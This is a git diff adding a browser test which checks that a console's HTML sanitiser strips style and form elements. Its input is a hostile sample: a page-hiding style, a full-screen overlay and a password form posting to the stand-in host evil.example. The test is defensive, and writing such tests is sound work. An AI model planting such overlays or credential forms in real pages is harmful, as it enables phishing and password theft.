@@ -36,3 +36,20 @@ test('WIDGET-11 fetched html and markdown are sanitised by DOMPurify in a real b
   expect(markdown).toContain('<strong>Knock twice</strong>');
   expect(markdown).not.toMatch(/onerror|javascript:|<script/i);
 });
+
+test('security #17: the sanitiser drops styles and form elements, so a document can neither overlay the console nor ask for a password', async ({ page }) => {
+  await page.setContent('<!doctype html><html><body></body></html>');
+  await page.addScriptTag({ content: await bundledRenderer() });
+  const rendered = await page.evaluate(() => {
+    const { renderDocument } = (window as unknown as { externalContent: typeof import('../src/alarms/detail/widgets/external-content.ts') }).externalContent;
+    return renderDocument(
+      '<style>body{display:none}</style><p style="position:fixed;inset:0">Plan</p><form action="https://evil.example"><input name="password" type="password"><select><option>a</option></select><textarea>t</textarea><button>Log in</button></form>',
+      'text/html',
+    );
+  });
+  expect(rendered.kind).toBe('html');
+  const html = rendered.kind === 'html' ? rendered.html : '';
+  expect(html).toContain('<p>Plan</p>');
+  // Removed elements leave at most their text behind, never the element or a style.
+  expect(html).not.toMatch(/<(style|form|input|select|option|textarea|button)\b|style=/i);
+});
